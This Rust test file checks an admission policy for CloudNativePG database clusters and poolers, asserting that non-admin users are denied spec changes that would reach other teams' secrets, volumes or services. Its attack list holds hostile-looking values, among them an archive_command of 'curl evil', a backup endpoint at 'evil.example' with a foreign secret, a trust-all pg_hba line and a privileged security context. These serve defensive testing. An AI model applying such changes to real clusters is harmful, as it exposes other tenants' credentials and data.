//! What of a spec is its owner's: each attack that was tried, against the real API server.

use daap_crds::object::View;
use daap_tests::sandbox::User;
use rstest::rstest;
use serde_json::{Value, json};

use crate::place::{Crds, Place, without_id};

const CREATE: &[&str] = &["create", "--dry-run=server", "-f", "-"];

/// Changes of a Cluster's spec that open another database, and the field that is refused.
fn attacks() -> Vec<(&'static str, Value)> {
    let foreign = json!({"name": "daap-other-app", "key": "password"});
    vec![
        (
            "spec.externalClusters",
            json!({"externalClusters": [{"name": "x", "sslKey": foreign, "connectionParameters": {"host": "daap-other-rw"}}]}),
        ),
        (
            "spec.managed.services.additional",
            json!({"managed": {"services": {"additional": [{"selectorType": "rw", "serviceTemplate": {"metadata": {"name": "daap-other-rw"}}}]}}}),
        ),
        (
            "spec.managed.roles",
            json!({"managed": {"roles": [{"name": "x", "superuser": true, "passwordSecret": {"name": "daap-other-app"}}]}}),
        ),
        (
            "spec.env",
            json!({"env": [{"name": "X", "valueFrom": {"secretKeyRef": foreign}}]}),
        ),
        (
            "spec.envFrom",
            json!({"envFrom": [{"secretRef": {"name": "daap-other-app"}}]}),
        ),
        (
            "spec.projectedVolumeTemplate",
            json!({"projectedVolumeTemplate": {"sources": [{"secret": {"name": "daap-other-app"}}]}}),
        ),
        (
            "spec.certificates.serverTLSSecret",
            json!({"certificates": {"serverTLSSecret": "daap-other-server", "serverCASecret": "daap-other-ca"}}),
        ),
        (
            "spec.serviceAccountName",
            json!({"serviceAccountName": "daap-other"}),
        ),
        (
            "spec.storage.pvcTemplate",
            json!({"storage": {"pvcTemplate": {"dataSource": {"kind": "PersistentVolumeClaim", "name": "daap-other-1"}}}}),
        ),
        (
            "spec.superuserSecret",
            json!({"superuserSecret": {"name": "daap-other-superuser"}}),
        ),
        (
            "spec.bootstrap.initdb.postInitSQL",
            json!({"bootstrap": {"initdb": {"postInitSQL": ["create role x superuser"]}}}),
        ),
        (
            "spec.bootstrap.initdb.secret",
            json!({"bootstrap": {"initdb": {"secret": {"name": "daap-other-app"}}}}),
        ),
        (
            "spec.bootstrap.recovery",
            json!({"bootstrap": {"recovery": {"backup": {"name": "of-another"}}}}),
        ),
        (
            "spec.backup.barmanObjectStore.s3Credentials.accessKeyId",
            json!({"backup": {"barmanObjectStore": {"destinationPath": "s3://x", "endpointURL": "https://evil.example", "s3Credentials": {"accessKeyId": foreign}}}}),
        ),
        (
            "spec.monitoring.customQueriesSecret[0].name",
            json!({"monitoring": {"customQueriesSecret": [foreign]}}),
        ),
        (
            "spec.plugins",
            json!({"plugins": [{"name": "x.example.com"}]}),
        ),
        (
            "spec.postgresql.parameters",
            json!({"postgresql": {"parameters": {"archive_command": "curl evil"}}}),
        ),
        (
            "spec.postgresql.pg_hba",
            json!({"postgresql": {"pg_hba": ["host all postgres 0.0.0.0/0 trust"]}}),
        ),
        (
            "spec.imagePullSecrets",
            json!({"imagePullSecrets": [{"name": "daap-other-app"}]}),
        ),
        (
            "spec.securityContext",
            json!({"securityContext": {"privileged": true}}),
        ),
    ]
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn an_owner_opens_no_other_database_by_a_cluster(
    #[values(Crds::Own, Crds::Real)] crds: Crds,
) {
    let Some(place) = Place::of(crds, "fields").await else {
        return;
    };
    for (field, change) in attacks() {
        let mut cluster = place.orders().cluster();
        json_patch::merge(&mut cluster, &json!({ "spec": change }));
        let why = [field, "[spec-fields]"];
        place.denied(User::PaymentsDev, CREATE, Some(&cluster), &why);
        place.allowed(User::Admin, CREATE, Some(&cluster));
    }
    place.create_orders();
    // Neither later, whichever way; and what a database needs stays the owner's.
    for (field, change) in attacks().into_iter().take(6) {
        let patch = json!({ "spec": change }).to_string();
        let words = ["patch", "cluster/daap-orders", "--type=merge", "-p", &patch];
        place.denied(User::PaymentsDev, &words, None, &[field, "[spec-fields]"]);
    }
    let needed = json!({"spec": {"postgresql": {"parameters": {"work_mem": "8MB"}}, "resources": {"limits": {"memory": "1Gi"}},
        "affinity": {"nodeSelector": {"disk": "ssd"}}, "startDelay": 60}})
    .to_string();
    let words = [
        "patch",
        "cluster/daap-orders",
        "--type=merge",
        "-p",
        &needed,
    ];
    place.allowed(User::PaymentsDev, &words, None);
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn an_owner_opens_no_other_database_by_a_pooler(#[values(Crds::Own, Crds::Real)] crds: Crds) {
    let Some(place) = Place::of(crds, "pfields").await else {
        return;
    };
    let cluster = place.create_orders();
    let pooler = without_id(place.orders().pooler(View(&cluster).uid()));
    let container = json!({"name": "pgbouncer"});
    let secret = json!([{"name": "x", "secret": {"secretName": "daap-other-app"}}]);
    for (field, change) in [
        (
            "spec.template.spec.volumes",
            json!({"template": {"spec": {"containers": [container], "volumes": secret}}}),
        ),
        (
            "spec.template.spec.containers[0].name",
            json!({"template": {"spec": {"containers": [{"name": "thief", "image": "x"}]}}}),
        ),
        (
            "spec.template.spec.serviceAccountName",
            json!({"template": {"spec": {"containers": [container], "serviceAccountName": "daap-other"}}}),
        ),
        (
            "spec.template.metadata.labels",
            json!({"template": {"metadata": {"labels": {"cnpg.io/poolerName": "daap-other-pooler"}}, "spec": {"containers": [container]}}}),
        ),
        (
            "spec.pgbouncer.authQuerySecret",
            json!({"pgbouncer": {"authQuery": "select 1", "authQuerySecret": {"name": "daap-other-app"}}}),
        ),
        (
            "spec.serviceTemplate.spec.selector",
            json!({"serviceTemplate": {"spec": {"selector": {"cnpg.io/cluster": "daap-other"}}}}),
        ),
    ] {
        let mut readers = pooler.clone();
        json_patch::merge(
            &mut readers,
            &json!({"metadata": {"name": "readers", "labels": null}, "spec": change}),
        );
        let why = [field, "[spec-fields]"];
        place.denied(User::PaymentsDev, CREATE, Some(&readers), &why);
        place.allowed(User::Admin, CREATE, Some(&readers));
    }
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn nobody_switches_protection_off_by_metadata(#[values(Crds::Own, Crds::Real)] crds: Crds) {
    let Some(place) = Place::of(crds, "steering").await else {
        return;
    };
    place.create_orders();
    let cluster = "cluster/daap-orders";
    let passed_on =
        |labels: Value| json!({"spec": {"inheritedMetadata": {"labels": labels}}}).to_string();
    let (stranger, record) = (
        passed_on(json!({"cnpg.io/cluster": "daap-other"})),
        passed_on(json!({"daap.dev/owner-team": "billing"})),
    );
    for words in [
        &["annotate", cluster, "cnpg.io/validation=disabled"][..],
        &["annotate", cluster, "cnpg.io/podPatch=[]"],
        &["annotate", cluster, "alpha.cnpg.io/unrecoverable=true"],
        &["label", cluster, "cnpg.io/cluster=daap-other"],
        &["patch", cluster, "--type=merge", "-p", &stranger],
    ] {
        place.denied(User::PaymentsDev, words, None, &["[administrator]"]);
    }
    // The record is what is passed on, whatever a write says.
    let words = ["patch", cluster, "--type=merge", "-p", &record];
    place.allowed(User::PaymentsDev, &words, None);
    let stored = place.read(cluster);
    assert_eq!(
        stored["spec"]["inheritedMetadata"]["labels"]["daap.dev/owner-team"],
        "payments"
    );
    place.allowed(
        User::PaymentsDev,
        &["annotate", cluster, "cnpg.io/hibernation=on"],
        None,
    );
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn a_neighbour_reaches_into_no_database(#[values(Crds::Own, Crds::Real)] crds: Crds) {
    let Some(place) = Place::of(crds, "neighbour").await else {
        return;
    };
    place.create_orders();
    let legacy = json!({
        "apiVersion": "postgresql.cnpg.io/v1", "kind": "Cluster", "metadata": {"name": "legacy"},
        "spec": {"instances": 1, "storage": {"size": "1Gi"}},
    });
    for change in [
        json!({"spec": {"projectedVolumeTemplate": {"sources": [{"secret": {"name": "daap-orders-app"}}]}}}),
        json!({"spec": {"externalClusters": [{"name": "x", "connectionParameters": {"host": "daap-orders-rw"}}]}}),
        json!({"spec": {"serviceAccountName": "daap-orders"}}),
        json!({"spec": {"inheritedMetadata": {"labels": {"cnpg.io/cluster": "daap-orders"}}}}),
        json!({"spec": {"storage": {"pvcTemplate": {"dataSource": {"kind": "PersistentVolumeClaim", "name": "daap-orders-1"}}}}}),
        json!({"metadata": {"annotations": {"cnpg.io/podPatch": r#"[{"op":"add","value":"daap-orders-app"}]"#}}}),
    ] {
        let mut reaching = legacy.clone();
        json_patch::merge(&mut reaching, &change);
        for user in [User::Outsider, User::BillingDev] {
            place.denied(user, CREATE, Some(&reaching), &["[neighbours]"]);
        }
        place.allowed(User::Admin, CREATE, Some(&reaching));
    }
    let pooler = json!({
        "apiVersion": "postgresql.cnpg.io/v1", "kind": "Pooler", "metadata": {"name": "theirs"},
        "spec": {"cluster": {"name": "legacy"}, "pgbouncer": {"authQuery": "select 1", "authQuerySecret": {"name": "daap-orders-app"}}},
    });
    place.denied(User::Outsider, CREATE, Some(&pooler), &["[neighbours]"]);
    // It lives as it did, also where it reached into ours before there was a rule.
    let mut reaching = legacy.clone();
    reaching["spec"]["serviceAccountName"] = "daap-orders".into();
    place.allowed(User::Admin, &["create", "-f", "-"], Some(&reaching));
    let words = ["patch", "cluster/legacy", "--type=merge", "-p"];
    let patch = |spec: &'static str| [&words[..], &[spec]].concat();
    place.allowed(User::Outsider, &patch(r#"{"spec":{"instances":2}}"#), None);
    place.denied(
        User::Outsider,
        &patch(r#"{"spec":{"superuserSecret":{"name":"daap-orders-app"}}}"#),
        None,
        &["[neighbours]"],
    );
    place.allowed(User::Outsider, &["delete", "cluster/legacy"], None);
}
